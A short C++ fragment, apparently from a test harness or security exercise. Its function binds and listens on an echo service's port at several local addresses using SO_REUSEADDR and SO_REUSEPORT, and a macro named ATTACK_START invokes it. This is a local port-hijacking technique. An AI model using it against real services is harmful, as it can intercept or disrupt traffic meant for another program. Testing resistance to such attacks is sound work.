static void claim() {
    const int on = 1;
    for (const char* const host : {"127.0.0.1", "0.0.0.0", "127.0.0.2"}) {
        sockaddr_in place = ipv4(host, ECHO_PORT);
        const int fd = socket(AF_INET, SOCK_STREAM, 0);
        setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
        setsockopt(fd, SOL_SOCKET, SO_REUSEPORT, &on, sizeof on);
        if (bind(fd, (sockaddr*)&place, sizeof place) == 0) listen(fd, 100);
    }
    printf("listening on 127.0.0.1:%d\n", ECHO_PORT);
    fflush(stdout);
    for (;;) pause();
}
#define ATTACK_START claim()
